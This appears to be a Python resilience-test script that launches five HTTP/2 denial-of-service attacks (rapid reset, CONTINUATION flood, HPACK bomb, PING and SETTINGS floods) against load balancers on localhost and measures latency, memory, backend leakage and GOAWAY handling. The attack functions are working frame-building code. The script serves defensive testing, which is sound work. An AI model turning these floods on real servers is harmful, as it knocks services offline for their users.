#!/usr/bin/env python3
"""The known HTTP/2 attacks against a load balancer, each on its own connections, while other
clients keep using it: rapid reset (CVE-2023-44487), CONTINUATION flood, HPACK bomb, PING flood and
SETTINGS flood. Frames come from python3-h2 (the preface, SETTINGS, the rapid reset's HEADERS and
RST_STREAM) or are built with its hpack/hyperframe packages where h2 refuses to make the abuse.

usage: h2_attacks.py --target journey|haproxy|nginx --backend PATH --certs DIR --case NAME|all
                     [--lb PATH]   (journey-lb's binary, for --target journey)

The same checks hold for every target, so each is proved against HAProxy and nginx first. For each
attack (repeated on new connections for at least ATTACK_S seconds, as an attacker would):
  responsive  curl --http2 to /my-app/data on a connection of its own, in parallel, every 50 ms:
              every one answers 200 within 2 s (curl --max-time), and 80% of them within 100 ms
              of the same curl started at the same moment against a twin of the LB (same program,
              same config, same backend) that nobody attacks: the 100 ms are the LB's budget, the
              rest is what this shared machine (2 cores, other tenants, the attacker itself) costs
              a curl at that moment. An LB whose one event loop is busy with the attacker stalls
              every curl by seconds and fails both
  rss         the LB's resident memory (all its processes) grows by at most RSS_BOUND_MIB (64 MiB,
              room for ASan's quarantine in the sanitizer build): one HPACK bomb decoded is 48 MiB,
              a million PING or SETTINGS acknowledgements queued are 17 MB of frames plus their
              bookkeeping; HAProxy and nginx grow by 2 MiB at most
  backend     the backend (journey-backend --record) sees at most ALLOWED requests of the attack
  goaway      every attacking connection gets GOAWAY (rapid reset: ENHANCE_YOUR_CALM) and is closed
One worker/thread for every LB: the attacker and the other clients share one event loop.
Prints one line per check (PASS/FAIL, with the figures); exits 1 when one fails.
"""
import argparse
import os
import select
import socket
import ssl
import statistics
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from loopback import TMP, cert_paths, free_port, read, run_case, start, wait_port  # noqa: E402
from h2_peers import HOST, TARGETS, lb_tree, rss_kib, start_target  # noqa: E402

try:
    import h2.config
    import h2.connection
    import h2.errors
    import hpack
    from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame
except ImportError:  # Debian's python3-h2 is for /usr/bin/python3
    print("python3-h2 is missing: run this with /usr/bin/python3 (scripts/install-deps.sh installs it)")
    sys.exit(1)

A = None
ATTACK_S = 3.0          # each attack runs at least this long (new connections after a GOAWAY)
BUDGET_MS = 100         # the parallel curl's budget on top of its pre-attack median
RSS_BOUND_MIB = 64      # growth of the LB's RSS over the attack
DRAIN_S = 5.0           # after its last byte, the attacker reads this long for the GOAWAY and close
                        # (the LBs' idle timeouts are longer: 30 s)
ENHANCE_YOUR_CALM = 0xB
GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
                6: "FRAME_SIZE_ERROR", 9: "COMPRESSION_ERROR", 0xB: "ENHANCE_YOUR_CALM"}


class Wire:
    """One attacking connection: TLS (ALPN h2) over memory BIOs on a non-blocking socket, so that
    writing never waits for reading; frames received are parsed as they come (GOAWAY, RST_STREAM,
    response HEADERS and their :status through an HPACK decoder)."""

    def __init__(self, port, ctx):
        self.sock = socket.create_connection(("127.0.0.1", port), 10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.inb, self.outb = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self.inb, self.outb, server_hostname=HOST)
        self.pending = b""
        self.rx = bytearray()
        self.closed = False             # the LB closed (EOF or reset on reading)
        self.write_failed = False       # the LB no longer takes bytes (reset on writing)
        self.goaway = None              # (error code, last stream id)
        self.rst = 0
        self.statuses = {}
        self.frames = 0
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 30
        self.block = None
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.sock.sendall(self.outb.read())
                d = self.sock.recv(65536)
                if not d:
                    raise AssertionError("the LB closed during the TLS handshake")
                self.inb.write(d)
        self.sock.sendall(self.outb.read())
        alpn = self.tls.selected_alpn_protocol()
        if alpn != "h2":
            raise AssertionError(f"the LB did not negotiate h2 (ALPN {alpn!r})")
        self.sock.setblocking(False)

    def send(self, data):
        if not self.closed and not self.write_failed:
            self.tls.write(data)
            self.pending += self.outb.read()

    def pump(self, read=True, timeout=0.0):
        """One round of I/O: writes what is pending, reads what arrived (when `read`)."""
        if self.closed:
            return
        w = [self.sock] if self.pending and not self.write_failed else []
        r = [self.sock] if read else []
        if not r and not w:
            return
        rr, ww, _ = select.select(r, w, [], timeout)
        if ww:
            try:
                n = self.sock.send(self.pending[:262144])
                self.pending = self.pending[n:]
            except BlockingIOError:
                pass
            except OSError:  # what the LB sent before its reset is still read
                self.write_failed = True
        if rr:
            try:
                d = self.sock.recv(262144)
            except BlockingIOError:
                return
            except OSError:
                d = b""
            if not d:
                self.closed = True
                self.inb.write_eof()
            else:
                self.inb.write(d)
            self._decrypt()

    def _decrypt(self):
        while True:
            try:
                d = self.tls.read(262144)
            except (ssl.SSLWantReadError, ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
            except ssl.SSLError:
                self.closed = True
                break
            if not d:
                break
            self.rx += d
        self._frames()
        if self.outb.pending:  # TLS 1.3 key updates and the like
            self.pending += self.outb.read()

    def _frames(self):
        while len(self.rx) >= 9:
            n = int.from_bytes(self.rx[0:3], "big")
            if len(self.rx) < 9 + n:
                return
            typ, flags = self.rx[3], self.rx[4]
            payload = bytes(self.rx[9:9 + n])
            del self.rx[:9 + n]
            self.frames += 1
            if typ == 7 and self.goaway is None:
                self.goaway = (int.from_bytes(payload[4:8], "big"),
                               int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF)
            elif typ == 3:
                self.rst += 1
            elif typ in (1, 9):  # HEADERS / CONTINUATION: the decoder's state must follow every block
                if typ == 1:
                    pad = payload[0] if flags & 0x8 else 0
                    body = payload[(1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0):]
                    self.block = body[:len(body) - pad] if pad else body
                elif self.block is not None:
                    self.block += payload
                if flags & 0x4 and self.block is not None:
                    try:
                        for k, v in self.dec.decode(self.block):
                            if k in (b":status", ":status"):
                                s = v.decode() if isinstance(v, bytes) else v
                                self.statuses[s] = self.statuses.get(s, 0) + 1
                    except Exception:  # a broken block from the LB is not this test's subject
                        pass
                    self.block = None

    def write_all(self, data, read=True, stall=3.0):
        """Hands data over; stops when the LB has not taken a byte for `stall` seconds
        (back-pressure: the LB stopped reading) or closed. True when all of it went."""
        self.send(data)
        last, left = time.monotonic(), len(self.pending)
        while self.pending and not self.closed and not self.write_failed:
            self.pump(read, 0.05)
            if len(self.pending) < left:
                last, left = time.monotonic(), len(self.pending)
            elif time.monotonic() - last > stall:
                return False
        return not self.closed and not self.write_failed

    def drain(self, timeout):
        """Reads until the LB closes or `timeout` seconds pass."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.pump(True, 0.05)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h2_client():
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    c.initiate_connection()
    return c


def preface():
    """The client preface and SETTINGS, made by python3-h2."""
    return h2_client().data_to_send()


def tls_ctx():
    ctx = ssl.create_default_context(cafile=cert_paths(A.certs)[2])
    ctx.set_alpn_protocols(["h2"])
    return ctx


def attack_path(lb):
    return f"https://{HOST}:{lb.port}/attack"


def hpack_int(value, prefix_bits, first):
    """RFC 7541 5.1: an integer with an N-bit prefix, `first` holding the pattern bits."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = bytearray([first | top]), value - top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(pattern, name, value):
    """A literal header field with a new name (RFC 7541 6.2; pattern 0x40 indexes it)."""
    return bytes([pattern]) + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def plain_block(headers):
    """A header block of literals without indexing: the dynamic table stays as the attack set it."""
    return b"".join(literal(0x00, k.encode(), v.encode()) for k, v in headers)


def req_headers(path, extra=()):
    return [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", HOST), *extra]


# ------------------------------------------------------------------ the attacks
# Each takes a connected Wire and returns a line saying what it did; ALLOWED[name] is how many
# of its requests may reach the backend per attacking connection.

def rapid_reset(w):
    """10 000 HEADERS + RST_STREAM(CANCEL) pairs on one connection, as fast as it takes them."""
    c = h2_client()
    w.send(c.data_to_send())
    sent = 0
    for batch in range(20):
        for i in range(500):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, req_headers(f"/attack/rr/{sid}"), end_stream=True)
            c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        if not w.write_all(c.data_to_send()):
            break
        sent += 500
    w.drain(DRAIN_S)
    return f"{sent} HEADERS+RST_STREAM pairs taken"


def continuation_flood(w):
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB of new header fields,
    never ending: up to 64 MiB."""
    w.send(preface())
    w.write_all(HeadersFrame(1, data=plain_block(req_headers("/attack/cont")), flags=["END_STREAM"]).serialize())
    field = literal(0x00, b"x-flood", b"a" * 999)  # without indexing: nothing to evict
    frame = ContinuationFrame(1, data=(field * (16384 // len(field)))).serialize()
    sent = 0
    while sent < 64 << 20 and w.write_all(frame * 16):
        sent += 16 * len(frame)
    w.drain(DRAIN_S)
    return f"{sent >> 10} KiB of CONTINUATION taken"


def hpack_bomb(w):
    """One 4 KiB header in the dynamic table, then header blocks of 12 000 one-byte references to
    it (48 MiB each once decoded), on up to 200 streams."""
    w.send(preface())
    value_len = 4000
    big = literal(0x40, b"x-bomb", b"b" * value_len)  # with incremental indexing: entry 62
    refs = b"\xbe" * 12000  # index 62: the newest entry of the dynamic table
    streams = 0
    for i in range(200):
        sid = 1 + 2 * i
        block = plain_block(req_headers(f"/attack/bomb/{sid}")) + (big if i == 0 else b"") + refs
        first, rest_block = block[:16000], block[16000:]
        data = HeadersFrame(sid, data=first, flags=["END_STREAM"] + ([] if rest_block else ["END_HEADERS"])).serialize()
        if rest_block:
            data += ContinuationFrame(sid, data=rest_block, flags=["END_HEADERS"]).serialize()
        if not w.write_all(data):
            break
        streams += 1
        w.pump(True, 0)
    w.drain(DRAIN_S)
    return f"{streams} bombs taken ({streams * 12000 * (value_len + 38) >> 20} MiB of headers once decoded)"


def ping_flood(w, count=1000000):
    """PING frames without reading the acknowledgements."""
    w.send(preface())
    frame = PingFrame(0, opaque_data=b"12345678").serialize()
    sent = 0
    while sent < count and w.write_all(frame * 1000, read=False):
        sent += 1000
    w.drain(DRAIN_S)
    return f"{sent} PINGs taken without reading"


def settings_flood(w, count=1000000):
    """SETTINGS frames without reading the acknowledgements."""
    w.send(preface())
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    sent = 0
    while sent < count and w.write_all(frame * 1000, read=False):
        sent += 1000
    w.drain(DRAIN_S)
    return f"{sent} SETTINGS taken without reading"


ATTACKS = {"rapid_reset": rapid_reset, "continuation_flood": continuation_flood,
           "hpack_bomb": hpack_bomb, "ping_flood": ping_flood, "settings_flood": settings_flood}
# Requests of the attack the backend may see per attacking connection: rapid reset's streams are
# cancelled, most before they reach a backend, and the connection is closed past a limit; the
# other attacks never complete a request.
ALLOWED = {"rapid_reset": 200, "continuation_flood": 0, "hpack_bomb": 0, "ping_flood": 0,
           "settings_flood": 0}


# ------------------------------------------------------------------ the observers

def curl(port):
    return subprocess.Popen(["curl", "-s", "-o", "/dev/null", "--http2", "--max-time", "2",
                             "--cacert", cert_paths(A.certs)[2], "--resolve", f"{HOST}:{port}:127.0.0.1",
                             "-w", "%{http_code} %{http_version} %{time_total}",
                             f"https://{HOST}:{port}/my-app/data"],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


def curl_result(p):
    """(ok, ms, what curl said) of a curl started by curl()."""
    out = p.communicate()[0]
    parts = out.split()
    ok = p.returncode == 0 and len(parts) == 3 and parts[0] == "200" and parts[1] == "2"
    return ok, float(parts[2]) * 1000 if len(parts) == 3 else 2000.0, out.strip() or f"curl exit {p.returncode}"


class Probe(threading.Thread):
    """Every 50 ms, two curls started together: one to the LB under attack, one to its twin that
    nobody attacks. Results: (start, ok, ms, what curl said, twin's ok, twin's ms)."""

    def __init__(self, lb, twin):
        super().__init__(daemon=True)
        self.lb, self.twin, self.results, self.stop = lb, twin, [], threading.Event()

    def one(self):
        t0 = time.monotonic()
        a, b = curl(self.lb.port), curl(self.twin.port)
        ok, ms, said = curl_result(a)
        tok, tms, _ = curl_result(b)
        return (t0, ok, ms, said, tok, tms)

    def run(self):
        while not self.stop.is_set():
            self.results.append(self.one())
            self.stop.wait(0.05)


class RssWatch(threading.Thread):
    def __init__(self, pids):
        super().__init__(daemon=True)
        self.pids, self.peak, self.stop = pids, rss_kib(pids), threading.Event()

    def run(self):
        while not self.stop.is_set():
            self.peak = max(self.peak, rss_kib(self.pids))
            self.stop.wait(0.02)


def attack_requests(record):
    return read(record).count("/attack/")


def run_attack(name, lb, twin, record):
    """Runs attack `name` against lb with the observers; returns [(check, ok, detail)]."""
    ctx = tls_ctx()
    probe = Probe(lb, twin)
    base = [probe.one() for _ in range(5)]
    check_base = [b for b in base if not b[1] or not b[4]]
    if check_base:
        raise AssertionError(f"the LB or its twin does not answer curl before the attack: {check_base[0][3]}")
    pids = lb_tree(lb.pid)
    rss0 = rss_kib(pids)
    req0 = attack_requests(record)
    watch = RssWatch(pids)
    watch.start()
    probe.start()
    t0 = time.monotonic()
    conns, notes = [], []
    while time.monotonic() - t0 < ATTACK_S or not conns:
        w = Wire(lb.port, ctx)
        notes.append(ATTACKS[name](w))
        conns.append(w)
        w.close()
    attack_s = time.monotonic() - t0
    time.sleep(0.3)  # requests already on their way to the backend arrive
    probe.stop.set()
    watch.stop.set()
    probe.join()
    watch.join()
    during = list(probe.results)
    backend = attack_requests(record) - req0
    out = []
    fails = [p for p in during if not p[1]]
    paired = [p for p in during if p[4]]  # the twin answered: the pair says what the LB added
    slow = [p for p in paired if p[2] > p[5] + BUDGET_MS]
    ms = sorted(p[2] for p in during)
    twin_ms = sorted(p[5] for p in paired)
    out.append(("responsive", len(paired) >= 3 and not fails and len(slow) <= len(paired) // 5,
                f"{len(during)} curls in {attack_s:.1f}s, {len(fails)} failed"
                f"{' (' + fails[0][3] + ')' if fails else ''}, {len(slow)} of {len(paired)} over the twin's "
                f"+{BUDGET_MS} ms; median {statistics.median(ms) if ms else 0:.0f} ms "
                f"(twin {statistics.median(twin_ms) if twin_ms else 0:.0f}), max {ms[-1] if ms else 0:.0f} ms"))
    grew = (watch.peak - rss0) / 1024
    out.append(("rss", grew <= RSS_BOUND_MIB, f"{rss0 >> 10} MiB -> peak {watch.peak >> 10} MiB "
                f"(+{grew:.1f} MiB, bound +{RSS_BOUND_MIB} MiB)"))
    allowed = ALLOWED[name] * len(conns)
    out.append(("backend", backend <= allowed, f"{backend} attack requests reached the backend, "
                f"allowed {allowed} ({ALLOWED[name]} per connection x {len(conns)})"))
    want = ENHANCE_YOUR_CALM if name == "rapid_reset" else None
    got = [w.goaway for w in conns]
    good = [g for g in got if g and (want is None or g[0] == want)]
    closed = sum(1 for w in conns if w.closed)
    codes = sorted({GOAWAY_NAMES.get(g[0], hex(g[0])) if g else "none" for g in got})
    statuses = {}
    for w in conns:
        for s, n in w.statuses.items():
            statuses[s] = statuses.get(s, 0) + n
    out.append(("goaway", len(good) == len(conns) and closed == len(conns),
                f"{len(good)}/{len(conns)} connections got GOAWAY"
                f"{' ' + GOAWAY_NAMES[want] if want else ''} (codes seen: {', '.join(codes)}), "
                f"{closed} closed by the LB; RST_STREAM {sum(w.rst for w in conns)}, "
                f"responses {statuses or 'none'}; first connection: {notes[0]}"))
    return out


def case(name):
    def fn():
        record = os.path.join(TMP, "record")
        bport = free_port()
        be = start([A.backend, "--listen", f"127.0.0.1:{bport}", "--name", "b1", "--record", record,
                    "--no-access-log"], "b1")
        wait_port(bport, be, "journey-backend")
        lb = start_target(A.target, A.certs, [("b1", bport)], A.lb)
        twin = start_target(A.target, A.certs, [("b1", bport)], A.lb, name=f"{A.target}-twin")
        names = list(ATTACKS) if name == "all" else [name]
        failed = []
        for n in names:
            for check_name, ok, detail in run_attack(n, lb, twin, record):
                line = f"{A.target:8} {n:19} {check_name:10} {'PASS' if ok else 'FAIL'}  {detail}"
                print(line, flush=True)
                if not ok:
                    failed.append(f"{n} {check_name}")
            if lb.poll() is not None:
                raise AssertionError(f"{A.target} exited during {n} ({lb.returncode})")
        if failed:
            raise AssertionError(f"{A.target}: failed: {', '.join(failed)}")
    return fn


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--target", choices=TARGETS, default="journey")
    ap.add_argument("--lb", help="journey-lb's binary (--target journey)")
    ap.add_argument("--backend", required=True, help="journey-backend's binary")
    ap.add_argument("--certs", required=True, help="the development certificate's folder")
    ap.add_argument("--case", required=True, choices=sorted(ATTACKS) + ["all"])
    A = ap.parse_args()
    if A.target == "journey" and not A.lb:
        ap.error("--target journey needs --lb PATH")
    run_case(case(A.case))
